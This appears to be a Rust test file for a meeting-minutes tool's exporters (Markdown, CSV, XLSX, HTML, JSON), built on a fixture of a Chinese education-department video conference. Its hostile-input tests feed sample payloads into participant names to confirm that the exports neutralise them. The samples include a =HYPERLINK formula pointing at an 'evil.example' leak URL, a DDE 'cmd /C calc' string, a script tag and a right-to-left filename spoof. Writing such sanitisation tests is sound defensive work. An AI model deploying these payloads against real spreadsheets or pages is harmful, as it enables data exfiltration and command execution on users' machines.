//! The exports, read back with parsers this project did not write: pulldown-cmark for the
//! Markdown, the csv crate, calamine for the workbook, serde_json; plus the HTML text.

use std::io::Cursor;
use std::sync::Arc;

use calamine::{Data, Reader, Xlsx};
use chrono::{DateTime, NaiveDate, TimeZone, Utc};
use pulldown_cmark::{Event as Md, Options as MdOptions, Parser, Tag, TagEnd};

use huiwu::core::agenda::{Agenda, OwnerRef, PersonRef, Role};
use huiwu::core::event::{ActionFields, Event, EventKind, LinkState, WalkIn};
use huiwu::core::load::load_agenda;
use huiwu::core::meeting::Meeting;
use huiwu::export::{self, Format, Options};
use huiwu::i18n::Lang;

const FIXTURE: &[u8] = include_bytes!("../fixtures/export-meeting.json");

pub(crate) fn agenda() -> Agenda {
    let loaded = load_agenda(FIXTURE, Lang::En);
    loaded
        .agenda
        .unwrap_or_else(|| panic!("fixture: {:?}", loaded.diagnostics))
}

/// Local (UTC+8) time on the meeting's day.
pub(crate) fn at(h: u32, m: u32, s: u32) -> DateTime<Utc> {
    chrono::FixedOffset::east_opt(8 * 3600)
        .unwrap()
        .with_ymd_and_hms(2017, 5, 4, h, m, s)
        .unwrap()
        .with_timezone(&Utc)
}

struct Recorder {
    events: Vec<Event>,
}

impl Recorder {
    fn push(&mut self, t: DateTime<Utc>, kind: EventKind) {
        let n = self.events.len() as u64 + 1;
        self.events
            .push(Event::new(format!("e{n}"), t, "desk", n, kind));
    }
    fn start(&mut self, t: DateTime<Utc>, item: &str) {
        self.push(t, EventKind::ItemStarted { item: item.into() });
    }
    fn end(&mut self, t: DateTime<Utc>, item: &str) {
        self.push(t, EventKind::ItemEnded { item: item.into() });
    }
    fn sign(&mut self, t: DateTime<Utc>, who: &str, late: bool) {
        self.push(
            t,
            EventKind::SignedIn {
                participant: who.into(),
                late,
                effective_at: None,
            },
        );
    }
    fn note(&mut self, t: DateTime<Utc>, item: Option<&str>, text: &str, decision: bool) {
        let id = format!("N{}", self.events.len() + 1);
        self.push(
            t,
            EventKind::NoteRecorded {
                note: id,
                item: item.map(Into::into),
                text: text.into(),
                decision,
            },
        );
    }
    fn action(
        &mut self,
        t: DateTime<Utc>,
        id: &str,
        text: &str,
        owners: Vec<OwnerRef>,
        due: Option<(i32, u32, u32)>,
    ) {
        self.push(
            t,
            EventKind::ActionAdded {
                action: id.into(),
                fields: Box::new(ActionFields {
                    text: Some(text.into()),
                    owners: Some(owners),
                    due: Some(due.map(|(y, m, d)| NaiveDate::from_ymd_opt(y, m, d).unwrap())),
                    due_text: None,
                    item: Some(Some("requirements".into())),
                    assigned_by: Some(Some(PersonRef {
                        participant: Some("m01".into()),
                        ..Default::default()
                    })),
                }),
            },
        );
    }
}

/// The reference meeting, held: sign-ins of every kind, a roll call, the items run with
/// overruns, notes, decisions and action items. Fixed times, so outputs are stable.
fn events() -> Vec<Event> {
    let mut r = Recorder { events: Vec::new() };
    r.sign(at(14, 20, 5), "m01", false);
    r.sign(at(14, 21, 0), "m02", false);
    r.sign(at(14, 45, 30), "m03", true);
    r.push(
        at(14, 10, 0),
        EventKind::Excused {
            participant: "m04".into(),
            reason: "出差北京".into(),
        },
    );
    r.sign(at(14, 25, 0), "m05", false);
    r.sign(at(14, 18, 0), "m06", false);
    r.sign(at(14, 22, 10), "y01", false);
    r.push(
        at(14, 24, 0),
        EventKind::StandIn {
            participant: "y02".into(),
            name: "何平".into(),
            unit: "耀州区教育科技体育局".into(),
        },
    );
    r.sign(at(14, 23, 40), "y03", false);
    r.push(
        at(14, 28, 0),
        EventKind::WalkedIn(Box::new(WalkIn {
            participant: "W1".into(),
            name: "郑小林".into(),
            unit: "耀州区教育科技体育局".into(),
            title: "科长".into(),
            venue: "yaozhou".into(),
            role: Role::Member,
        })),
    );
    r.push(
        at(14, 29, 0),
        EventKind::RollCallAnswered {
            venue: "yijun".into(),
            expected: 30,
            present: 27,
            excused: 2,
            absent: 1,
            note: String::new(),
        },
    );
    r.push(
        at(14, 29, 30),
        EventKind::LinkChecked {
            venue: "yaozhou".into(),
            video: LinkState::Ok,
            audio: LinkState::Ok,
        },
    );
    r.push(
        at(14, 29, 40),
        EventKind::LinkChecked {
            venue: "yijun".into(),
            video: LinkState::Ok,
            audio: LinkState::Failing,
        },
    );
    r.push(
        at(14, 31, 0),
        EventKind::MeetingStarted { effective_at: None },
    );
    r.start(at(14, 31, 0), "review");
    r.note(
        at(14, 40, 0),
        Some("review"),
        "2016年全市资助家庭经济困难学生1.2万人次",
        false,
    );
    r.end(at(14, 55, 0), "review");
    r.start(at(14, 55, 0), "problems");
    r.note(
        at(15, 0, 0),
        Some("problems"),
        "部分区县重视不够，学生资助信息共享不及时",
        false,
    );
    r.end(at(15, 8, 0), "problems");
    r.start(at(15, 8, 0), "list");
    r.note(
        at(15, 15, 0),
        Some("list"),
        "各区县、各学校对照整改责任清单逐项自查，6月底前整改到位",
        true,
    );
    r.end(at(15, 20, 0), "list");
    r.start(at(15, 20, 0), "requirements");
    r.note(
        at(15, 25, 0),
        Some("requirements"),
        "各区县成立教育扶贫工作机构，明确专人负责，尽快制定路线图、时间表和任务书",
        true,
    );
    r.note(
        at(15, 35, 0),
        Some("requirements"),
        "扶贫资金实行专账管理，及时公开",
        true,
    );
    r.action(
        at(15, 30, 0),
        "A2",
        "制定教育扶贫路线图、时间表和任务书",
        vec![OwnerRef::Participant("y01".into())],
        Some((2017, 5, 31)),
    );
    r.action(at(15, 36, 0), "A3", "开展自查自纠", vec![], None);
    r.action(
        at(15, 38, 0),
        "A4",
        "报送教育扶贫宣传信息",
        vec![OwnerRef::Participant("m02".into())],
        Some((2017, 5, 3)),
    );
    r.push(
        at(15, 39, 0),
        EventKind::ActionCompleted {
            action: "A4".into(),
        },
    );
    r.push(
        at(15, 40, 0),
        EventKind::LeftEarly {
            participant: "y03".into(),
        },
    );
    r.end(at(15, 50, 0), "requirements");
    r.push(
        at(15, 52, 0),
        EventKind::MeetingEnded { effective_at: None },
    );
    r.events
}

fn meeting_from(agenda: Agenda) -> (Meeting, Vec<Event>) {
    let ev = events();
    (Meeting::replay(Arc::new(agenda), &ev), ev)
}

pub(crate) fn meeting() -> (Meeting, Vec<Event>) {
    meeting_from(agenda())
}

pub(crate) fn opts(lang: Lang) -> Options {
    Options::new(lang, at(16, 10, 0))
}

pub(crate) fn text(format: Format, m: &Meeting, ev: &[Event], o: &Options) -> String {
    String::from_utf8(export::render(format, m, ev, o).unwrap()).unwrap()
}

// ---------------------------------------------------------------------------------------
// Markdown

/// Everything a Markdown reader would show as text, with block boundaries as newlines,
/// plus the structure worth checking.
struct MdDoc {
    text: String,
    headings: Vec<String>,
    tables: Vec<Vec<Vec<String>>>,
    raw_html: Vec<String>,
    links: usize,
    emphasis: usize,
}

fn read_md(src: &str) -> MdDoc {
    let mut doc = MdDoc {
        text: String::new(),
        headings: Vec::new(),
        tables: Vec::new(),
        raw_html: Vec::new(),
        links: 0,
        emphasis: 0,
    };
    let mut heading: Option<String> = None;
    let mut cell: Option<String> = None;
    let mut bold_depth = 0;
    for ev in Parser::new_ext(src, MdOptions::ENABLE_TABLES) {
        match ev {
            Md::Start(Tag::Heading { .. }) => heading = Some(String::new()),
            Md::End(TagEnd::Heading(_)) => doc.headings.push(heading.take().unwrap()),
            Md::Start(Tag::Table(_)) => doc.tables.push(Vec::new()),
            Md::Start(Tag::TableHead | Tag::TableRow) => {
                doc.tables.last_mut().unwrap().push(Vec::new())
            }
            Md::Start(Tag::TableCell) => cell = Some(String::new()),
            Md::End(TagEnd::TableCell) => {
                let c = cell.take().unwrap();
                doc.tables.last_mut().unwrap().last_mut().unwrap().push(c);
            }
            Md::Start(Tag::Link { .. }) => doc.links += 1,
            Md::Start(Tag::Emphasis) => doc.emphasis += 1,
            Md::Start(Tag::Strong) => bold_depth += 1,
            Md::End(TagEnd::Strong) => bold_depth -= 1,
            Md::Html(h) | Md::InlineHtml(h) => doc.raw_html.push(h.to_string()),
            Md::Text(t) | Md::Code(t) => {
                let _ = bold_depth;
                if let Some(h) = &mut heading {
                    h.push_str(&t);
                }
                if let Some(c) = &mut cell {
                    c.push_str(&t);
                }
                doc.text.push_str(&t);
            }
            Md::SoftBreak | Md::HardBreak => doc.text.push(' '),
            Md::End(TagEnd::Paragraph | TagEnd::Item | TagEnd::TableRow | TagEnd::TableHead) => {
                doc.text.push('\n')
            }
            _ => {}
        }
    }
    doc
}

#[test]
fn markdown_minutes_snapshot() {
    let (m, ev) = meeting();
    insta::assert_snapshot!("minutes_zh", text(Format::Md, &m, &ev, &opts(Lang::Zh)));
}

#[test]
fn markdown_minutes_english_snapshot() {
    let (m, ev) = meeting();
    insta::assert_snapshot!("minutes_en", text(Format::Md, &m, &ev, &opts(Lang::En)));
}

#[test]
fn markdown_minutes_content() {
    let (m, ev) = meeting();
    let md = text(Format::Md, &m, &ev, &opts(Lang::Zh));
    let doc = read_md(&md);
    assert_eq!(doc.headings[0], "铜川市教育扶贫工作视频电话会议纪要");
    for h in ["会议议定事项", "任务分工", "签到名单"] {
        assert!(
            doc.headings.iter().any(|x| x == h),
            "missing heading {h}: {:?}",
            doc.headings
        );
    }
    let t = &doc.text;
    for want in [
        // 会议概况: the actual times, the place, the chair, the venues.
        "2017年5月4日14:31至15:52，铜川市教育局在市电信局视频电话会议室召开铜川市教育扶贫工作视频电话会议。",
        "会议由局长王晓红主持。会议设主会场和耀州区、宜君县2个分会场。",
        "请假：赵丽（市扶贫办；出差北京）",
        "列席：陈静（市人大教科文卫委）",
        "缺席：吴芳（耀州区幼儿园）",
        "张明（市财政局；迟到 14:45）",
        "何平（耀州区教育科技体育局；代杨帆）",
        "黄海（耀州区锦阳路小学；早退 15:40）",
        "宜君县27人",
        "一、各区县、各学校对照整改责任清单逐项自查，6月底前整改到位。",
        "二、各区县成立教育扶贫工作机构",
        "三、扶贫资金实行专账管理，及时公开。",
        "附件：签到名单",
        "宜君县分会场",
        "应到30人，实到27人，请假2人，缺席1人（按人数报到）",
    ] {
        assert!(t.contains(want), "missing {want:?} in\n{t}");
    }
    // Staff are not listed as attendees in the minutes (only in the attachment).
    assert!(!t.contains("出席：刘洋") && !t.contains("、刘洋"), "{t}");
    // The prepared notes and recorded notes under their items.
    assert!(t.contains("2016年全市资助家庭经济困难学生1.2万人次"), "{t}");

    // Tasks numbered 1…n, owners as units (a venue by its unit), the deadline as said;
    // no ids, no status.
    let tasks = &doc.tables[0];
    assert_eq!(
        tasks[0],
        ["序号", "任务", "牵头单位", "责任单位", "完成时限"]
    );
    assert_eq!(tasks[1][0], "1");
    assert_eq!(tasks[1][2], "耀州区");
    assert_eq!(tasks[1][3], "宜君县教育局");
    assert_eq!(tasks[1][4], "6月底前（2017年6月30日）");
    assert_eq!(tasks[2][2], "马军（耀州区教育科技体育局）");
    assert_eq!(tasks.len(), 1 + 4);
    for gone in ["A1", "未完成", "已完成", "已逾期", "生成于"] {
        assert!(!md.contains(gone), "{gone}");
    }

    // No raw HTML, no phone numbers without --include-contacts.
    assert!(doc.raw_html.is_empty());
    assert!(!md.contains("1380000") && !md.contains("1390000"));
}

#[test]
fn english_minutes_use_english_words() {
    let (m, ev) = meeting();
    let md = text(Format::Md, &m, &ev, &opts(Lang::En));
    let doc = read_md(&md);
    assert_eq!(doc.headings[0], "Minutes of 铜川市教育扶贫工作视频电话会议");
    assert!(
        doc.text
            .contains("On 4 May 2017, 14:31–15:52, 铜川市教育局 held the meeting"),
        "{}",
        doc.text
    );
    assert!(
        doc.text.contains("2 branch venues (耀州区 and 宜君县)"),
        "{}",
        doc.text
    );
    assert!(doc.text.contains("1. 各区县、各学校"), "{}", doc.text);
    assert!(doc.headings.iter().any(|h| h == "Decisions"));
    assert!(doc.headings.iter().any(|h| h == "Tasks"));
    assert!(!md.contains('\u{3000}'));
}

#[test]
fn many_decisions_are_numbered_past_ten() {
    let mut a = agenda();
    a.items.truncate(1);
    a.actions.clear();
    let mut m = Meeting::new(Arc::new(a));
    for i in 1..=21u64 {
        m.apply(&Event::new(
            format!("d{i}"),
            at(15, 0, 0),
            "desk",
            i,
            EventKind::NoteRecorded {
                note: format!("N{i}"),
                item: None,
                text: format!("第{i}项决定"),
                decision: true,
            },
        ));
    }
    let md = export::markdown::render(&m, &opts(Lang::Zh));
    for (n, marker) in [
        (10, "十、"),
        (11, "十一、"),
        (20, "二十、"),
        (21, "二十一、"),
    ] {
        assert!(
            md.contains(&format!("{marker}第{n}项决定")),
            "{marker} missing"
        );
    }
}

// ---------------------------------------------------------------------------------------
// Hostile input

const HOSTILE: [&str; 9] = [
    "=HYPERLINK(\"http://evil.example/?leak\",\"点我\")",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=TAB()",
    "\r=CR()",
    "<script>alert(1)</script>",
    "\u{202E}gpj.exe",
    "*bold* | pipe [link](http://x) <b>",
];

/// The fixture with the main venue's members renamed to hostile strings (and one as a
/// unit and a venue name, and an action's text).
fn hostile_meeting() -> (Meeting, Vec<Event>) {
    let mut a = agenda();
    let members = [
        "m01", "m02", "m03", "m04", "y01", "y02", "y03", "y04", "m05",
    ];
    for (id, name) in members.iter().zip(HOSTILE) {
        let p = a.participants.iter_mut().find(|p| p.id == *id).unwrap();
        p.name = name.to_string();
    }
    a.participants[2].unit = "=1+2".into();
    a.venues[1].name = "<i>耀州</i>[分]:会场*?/\\".into();
    a.actions[0].text = "=HYPERLINK(\"http://evil\")".into();
    meeting_from(a)
}

/// What a spreadsheet cell must contain for a hostile name after cleaning: controls, bidi
/// and invisible characters removed and surrounding whitespace trimmed (as `model::clean`
/// does).
fn cleaned(s: &str) -> String {
    huiwu::export::model::clean(s)
}

fn bidi_free(s: &str) -> bool {
    !s.chars().any(huiwu::sanitize::is_hidden)
}

#[test]
fn csv_is_bom_crlf_and_neutralises_formulas() {
    let (m, ev) = hostile_meeting();
    let bytes = export::render(Format::Csv, &m, &ev, &opts(Lang::Zh)).unwrap();
    assert!(bytes.starts_with("\u{FEFF}".as_bytes()), "no BOM");
    let body = &bytes[3..];
    let s = std::str::from_utf8(body).unwrap();
    assert!(s.contains("\r\n"));
    assert!(
        !s.replace("\r\n", "").contains('\n') || s.contains('"'),
        "bare LF outside quotes"
    );
    assert!(bidi_free(s));

    let mut rdr = csv::ReaderBuilder::new().from_reader(body);
    let headers = rdr.headers().unwrap().clone();
    assert_eq!(
        headers.iter().collect::<Vec<_>>(),
        [
            "序号",
            "姓名",
            "单位",
            "职务",
            "会场",
            "状态",
            "签到时间",
            "备注"
        ]
    );
    let all: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
    // The headcount venue is one line with its figures; the figures per venue follow.
    assert!(
        all.iter()
            .any(|r| &r[4] == "宜君县分会场" && r[7].contains("实到27人"))
    );
    let total = all.iter().find(|r| &r[0] == "合计").unwrap();
    assert_eq!(
        &total.iter().collect::<Vec<_>>()[..4],
        ["合计", "39", "34", "3"]
    );
    let rows: Vec<csv::StringRecord> = all
        .into_iter()
        .filter(|r| r[0].parse::<usize>().is_ok())
        .collect();
    // Every named person of the two roster venues (the headcount venue has none).
    assert_eq!(rows.len(), 11);
    for cell in rows.iter().flat_map(|r| r.iter()) {
        if let Some(c) = cell.chars().next() {
            assert!(
                !matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'),
                "cell {cell:?} would run as a formula"
            );
        }
    }
    let names: Vec<&str> = rows.iter().map(|r| &r[1]).collect();
    for h in &HOSTILE[..6] {
        let want = format!("'{}", cleaned(h));
        assert!(names.contains(&want.as_str()), "{want:?} not in {names:?}");
    }
    assert!(names.contains(&"gpj.exe"));
    assert!(names.contains(&"<script>alert(1)</script>"));
    let zhang = rows.iter().find(|r| r[2].contains("1+2")).unwrap();
    assert_eq!(&zhang[2], "'=1+2");
    // Numbering runs 1..n; statuses and remarks are filled.
    assert_eq!(
        rows.iter()
            .map(|r| r[0].parse::<usize>().unwrap())
            .collect::<Vec<_>>(),
        (1..=11).collect::<Vec<_>>()
    );
    let excused = rows.iter().find(|r| &r[5] == "请假").unwrap();
    assert_eq!(&excused[7], "请假：出差北京");
    let walk_in = rows.iter().find(|r| &r[1] == "郑小林").unwrap();
    assert_eq!(&walk_in[7], "现场登记");
    assert_eq!(&walk_in[6], "14:28:00");
}

#[test]
fn csv_sign_in_sheet_content_and_contacts() {
    let (m, ev) = meeting();
    let plain = text(Format::Csv, &m, &ev, &opts(Lang::Zh));
    assert!(!plain.contains("13900000001"));
    let mut rdr = csv::Reader::from_reader(plain.trim_start_matches('\u{FEFF}').as_bytes());
    let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
    let row = |name: &str| rows.iter().find(|r| &r[1] == name).unwrap().clone();
    assert_eq!(
        row("王晓红").iter().skip(1).collect::<Vec<_>>(),
        [
            "王晓红",
            "市教育局",
            "局长",
            "主会场（市电信局）",
            "已到",
            "14:20:05",
            ""
        ]
    );
    assert_eq!(&row("张明")[5], "迟到");
    assert_eq!(&row("杨帆")[5], "代会");
    assert_eq!(&row("杨帆")[7], "代会人：何平（耀州区教育科技体育局）");
    assert_eq!(&row("黄海")[5], "早退");
    assert_eq!(&row("黄海")[7], "早退于 15:40");
    // The meeting has ended: nobody is "not yet arrived", they are absent.
    assert_eq!(&row("吴芳")[5], "缺席");
    assert_eq!(&row("陈静")[7], "列席人员");

    let mut o = opts(Lang::En);
    o.include_contacts = true;
    let with = text(Format::Csv, &m, &ev, &o);
    let mut rdr = csv::Reader::from_reader(with.trim_start_matches('\u{FEFF}').as_bytes());
    assert_eq!(
        rdr.headers().unwrap().iter().collect::<Vec<_>>(),
        [
            "No.",
            "Name",
            "Unit",
            "Title",
            "Venue",
            "Status",
            "Signed in",
            "Remarks",
            "Phone"
        ]
    );
    let rows: Vec<csv::StringRecord> = rdr.records().map(|r| r.unwrap()).collect();
    let wang = rows.iter().find(|r| &r[1] == "王晓红").unwrap();
    assert_eq!(&wang[8], "13900000001");
    assert_eq!(&wang[5], "present");
}

fn open_xlsx(bytes: Vec<u8>) -> Xlsx<Cursor<Vec<u8>>> {
    Xlsx::new(Cursor::new(bytes)).unwrap()
}

#[test]
fn xlsx_cells_are_strings_never_formulas() {
    let (m, ev) = hostile_meeting();
    let bytes = export::render(Format::Xlsx, &m, &ev, &opts(Lang::Zh)).unwrap();
    let mut book = open_xlsx(bytes);
    let names = book.sheet_names();
    assert_eq!(names.len(), 5);
    assert_eq!(names[0], "汇总");
    assert_eq!(names[4], "任务清单");
    // The venue's name, with the characters Excel forbids replaced.
    assert_eq!(names[2], "<i>耀州<_i>_分__会场____");
    let mut seen = Vec::new();
    for name in &names {
        let formulas = book.worksheet_formula(name).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "sheet {name} has a formula"
        );
        let range = book.worksheet_range(name).unwrap();
        for (_, _, cell) in range.used_cells() {
            if let Data::String(s) = cell {
                assert!(bidi_free(s), "bidi control in {s:?}");
                seen.push(s.clone());
            }
        }
    }
    // Strings are stored exactly (a string cell needs no quote prefix).
    for h in HOSTILE {
        assert!(seen.contains(&cleaned(h)), "{:?} missing", cleaned(h));
    }
    assert!(seen.contains(&"=1+2".to_string()));
    assert!(seen.contains(&"=HYPERLINK(\"http://evil\")".to_string()));
}

#[test]
fn xlsx_structure_and_counts() {
    let (m, ev) = meeting();
    let mut book = open_xlsx(export::render(Format::Xlsx, &m, &ev, &opts(Lang::Zh)).unwrap());
    assert_eq!(
        book.sheet_names(),
        [
            "汇总",
            "主会场（市电信局）",
            "耀州区分会场",
            "宜君县分会场",
            "任务清单"
        ]
    );

    let summary = book.worksheet_range("汇总").unwrap();
    assert_eq!(
        summary.get_value((0, 0)),
        Some(&Data::String("铜川市教育扶贫工作视频电话会议签到表".into()))
    );
    let header: Vec<String> = (0..6)
        .map(|c| summary.get_value((3, c)).unwrap().to_string())
        .collect();
    assert_eq!(header, ["会场", "类型", "应到", "实到", "请假", "缺席"]);
    let num = |r: u32, c: u32| match summary.get_value((r, c)) {
        Some(Data::Float(f)) => *f,
        other => panic!("({r},{c}) is {other:?}"),
    };
    // Rows 4..6 are the venues, row 7 the total.
    assert_eq!(
        summary.get_value((7, 0)),
        Some(&Data::String("合计".into()))
    );
    assert_eq!(
        (num(7, 2), num(7, 3), num(7, 4), num(7, 5)),
        (39.0, 34.0, 3.0, 2.0)
    );
    assert_eq!((num(6, 2), num(6, 3)), (30.0, 27.0));
    assert!((num(7, 10) - 34.0 / 39.0).abs() < 1e-9);

    // A venue's printed list: title rows, then the header with 签名, no venue column.
    let main = book.worksheet_range("主会场（市电信局）").unwrap();
    assert_eq!(
        main.get_value((0, 0)),
        Some(&Data::String("铜川市教育扶贫工作视频电话会议签到表".into()))
    );
    let sub = main.get_value((1, 0)).unwrap().to_string();
    assert!(
        sub.contains("2017年5月4日")
            && sub.contains("主会场（市电信局）")
            && sub.contains("应到4人"),
        "{sub}"
    );
    let head: Vec<String> = (0..9)
        .map(|c| {
            main.get_value((2, c))
                .map(|v| v.to_string())
                .unwrap_or_default()
        })
        .collect();
    assert_eq!(
        head,
        [
            "序号",
            "姓名",
            "单位",
            "职务",
            "状态",
            "签到时间",
            "签名",
            "备注",
            ""
        ]
    );
    assert_eq!(main.get_value((3, 0)), Some(&Data::Float(1.0)));
    assert_eq!(main.get_value((3, 1)), Some(&Data::String("王晓红".into())));
    assert_eq!(main.height(), 3 + 6);

    let yijun = book.worksheet_range("宜君县分会场").unwrap();
    let note = yijun.get_value((3, 0)).unwrap().to_string();
    assert!(note.contains("实到27人"), "{note}");

    let actions = book.worksheet_range("任务清单").unwrap();
    assert_eq!(actions.height(), 1 + 4);
    assert_eq!(actions.get_value((1, 0)), Some(&Data::String("A1".into())));
    assert_eq!(
        actions.get_value((1, 4)),
        Some(&Data::String("6月底前（2017年6月30日）".into()))
    );
}

#[test]
fn html_escapes_everything_and_fetches_nothing() {
    let (m, ev) = hostile_meeting();
    let page = text(Format::Html, &m, &ev, &opts(Lang::Zh));
    assert!(page.starts_with("<!DOCTYPE html>"));
    assert!(!page.contains("<script"), "a script tag got through");
    assert!(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert!(page.contains("&lt;i&gt;耀州&lt;/i&gt;"));
    assert!(!page.contains("<i>") && page.contains("&lt;b&gt;"));
    assert!(bidi_free(&page));
    // Nothing to fetch: no external resources of any kind.
    for bad in [
        "src=", "href=", "<link", "@import", "url(", "<iframe", "<img",
    ] {
        assert!(!page.contains(bad), "found {bad}");
    }
    // The only URL is the SVG namespace (and the hostile text, escaped in text nodes).
    assert!(page.contains("Content-Security-Policy"));
    assert!(page.contains("@page { size: A4"));
    assert!(!page.contains("13900000001"));
}

#[test]
fn html_is_laid_out_after_gbt9704_with_page_numbers() {
    let (m, ev) = meeting();
    let page = text(Format::Html, &m, &ev, &opts(Lang::Zh));
    assert!(page.contains("@page { size: A4; margin: 37mm 26mm 35mm 28mm;"));
    assert!(page.contains(r#"content: "— " counter(page) " —""#));
    assert!(page.contains("width: 156mm"));
    assert!(page.contains("<h1>铜川市教育扶贫工作视频电话会议纪要</h1>"));
    assert!(page.contains("三、扶贫资金实行专账管理"));
    assert!(page.contains("<section class=\"attachment\">"));
    let without = text(
        Format::Html,
        &m,
        &ev,
        &Options {
            attachment: false,
            ..opts(Lang::Zh)
        },
    );
    assert!(!without.contains("签到名单"));
}

#[test]
fn markdown_keeps_hostile_text_as_text() {
    let (m, ev) = hostile_meeting();
    let md = text(Format::Md, &m, &ev, &opts(Lang::Zh));
    let doc = read_md(&md);
    let (m0, ev0) = meeting();
    let baseline = read_md(&text(Format::Md, &m0, &ev0, &opts(Lang::Zh)));
    assert!(doc.raw_html.is_empty(), "raw HTML: {:?}", doc.raw_html);
    assert_eq!(doc.links, 0, "a link was made");
    assert_eq!(doc.emphasis, baseline.emphasis, "emphasis was made");
    assert!(doc.text.contains("<script>alert(1)</script>"));
    assert!(doc.text.contains("*bold* | pipe [link](http://x) <b>"));
    assert!(bidi_free(&md));
    // A `|` in a name does not add a column.
    for t in &doc.tables {
        let width = t[0].len();
        assert!(t.iter().all(|r| r.len() == width), "ragged table {t:?}");
    }
}

// ---------------------------------------------------------------------------------------
// JSON

#[test]
fn json_holds_plan_record_and_state() {
    let (m, ev) = meeting();
    let v = crate::common::schema::Shape::Export
        .parse(text(Format::Json, &m, &ev, &opts(Lang::Zh)).as_bytes());
    assert_eq!(v["format"], 1);
    assert_eq!(v["contacts_included"], false);
    assert_eq!(v["generated_at"], "2017-05-04T16:10:00+08:00");
    assert_eq!(v["agenda"]["meeting"]["id"], "tc-2017-05-04");
    assert_eq!(v["events"].as_array().unwrap().len(), ev.len());
    assert_eq!(v["events"][0]["type"], "signed_in");
    let st = &v["state"];
    assert_eq!(st["total"]["expected"], 39);
    assert_eq!(st["total"]["present"], 34);
    assert_eq!(st["ended_at"], "2017-05-04T15:52:00+08:00");
    let people = st["people"].as_array().unwrap();
    assert_eq!(people.len(), 11);
    let p = |id: &str| people.iter().find(|p| p["id"] == id).unwrap();
    assert_eq!(p("m03")["status"], "late");
    assert_eq!(p("m03")["arrived_at"], "2017-05-04T14:45:30+08:00");
    assert_eq!(p("m04")["excused_reason"], "出差北京");
    assert_eq!(p("y02")["stand_in"]["name"], "何平");
    assert_eq!(p("W1")["walk_in"], true);
    assert_eq!(p("y04")["status"], "not_arrived");
    let items = st["items"].as_array().unwrap();
    let review = items.iter().find(|i| i["id"] == "review").unwrap();
    assert_eq!(review["elapsed_seconds"], 24 * 60);
    assert_eq!(review["overrun_seconds"], 4 * 60);
    assert_eq!(review["planned_start"], "2017-05-04T14:30:00+08:00");
    let tasks = items.iter().find(|i| i["id"] == "tasks").unwrap();
    assert_eq!(tasks["elapsed_seconds"], 42 * 60);
    let actions = st["actions"].as_array().unwrap();
    assert_eq!(
        actions[0]["owners"][0],
        serde_json::json!({"venue": "yaozhou", "label": "耀州区分会场"})
    );
    assert_eq!(actions[0]["assigned_by"]["label"], "王晓红");
    assert_eq!(actions[3]["status"], "done");
    assert_eq!(
        st["notes"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|n| n["decision"] == true)
            .count(),
        3
    );
    assert_eq!(st["venues"][2]["roll_call"]["present"], 27);

    // Phones only when asked for.
    let raw = text(Format::Json, &m, &ev, &opts(Lang::Zh));
    assert!(!raw.contains("13900000001") && !raw.contains("13800000001"));
    let mut o = opts(Lang::Zh);
    o.include_contacts = true;
    let raw = text(Format::Json, &m, &ev, &o);
    crate::common::schema::Shape::Export.parse(raw.as_bytes());
    assert!(raw.contains("13900000001") && raw.contains("13800000001"));
}

#[test]
fn outputs_are_deterministic() {
    let (m, ev) = meeting();
    for f in Format::ALL {
        let a = export::render(f, &m, &ev, &opts(Lang::Zh)).unwrap();
        let b = export::render(f, &m, &ev, &opts(Lang::Zh)).unwrap();
        assert_eq!(a, b, "{f:?}");
    }
}

#[test]
fn a_meeting_not_yet_held_exports_the_plan() {
    let m = Meeting::new(Arc::new(agenda()));
    let o = opts(Lang::Zh);
    for f in Format::ALL {
        let bytes = export::render(f, &m, &[], &o).unwrap();
        assert!(!bytes.is_empty(), "{f:?}");
    }
    let md = export::markdown::render(&m, &o);
    assert!(md.contains("**出席**：无"));
    // The plan: the scheduled times, every item, no decisions yet.
    assert!(md.contains("2017年5月4日14:30至16:00"), "{md}");
    assert!(!md.contains("会议议定事项"));
    // Not ended: absent people are still "未到" on the sheet.
    let csv = String::from_utf8(export::csv::render(&m, &o).unwrap()).unwrap();
    assert!(csv.contains(",未到,"), "{csv}");
}

#[test]
fn large_meetings_group_attendance_lines_by_unit() {
    let mut a = agenda();
    a.participants.retain(|p| p.venue != "main");
    let units = ["耀州区教育科技体育局", "耀州区锦阳路小学", "耀州区幼儿园"];
    for i in 0..30 {
        a.participants.push(huiwu::core::agenda::Participant {
            id: format!("g{i:02}"),
            name: format!("成员{i:02}"),
            unit: units[i % 3].into(),
            title: String::new(),
            category: String::new(),
            venue: "main".into(),
            phone: None,
            role: Role::Member,
            extra: Default::default(),
        });
    }
    let mut m = Meeting::new(Arc::new(a));
    for i in 0..30u64 {
        m.apply(&Event::new(
            format!("s{i}"),
            at(14, 20, 0),
            "desk",
            i + 1,
            EventKind::SignedIn {
                participant: format!("g{i:02}"),
                late: i == 4,
                effective_at: None,
            },
        ));
    }
    let md = export::markdown::render(&m, &opts(Lang::Zh));
    let present = md.lines().find(|l| l.starts_with("**出席**")).unwrap();
    assert!(
        present.starts_with("**出席**：耀州区教育科技体育局：成员00、成员03、成员06、"),
        "{present}"
    );
    assert!(
        present.contains("；耀州区锦阳路小学：成员01、成员04（迟到 14:20）、成员07"),
        "{present}"
    );
    // Each unit is named once.
    assert_eq!(present.matches("耀州区幼儿园").count(), 1, "{present}");
}
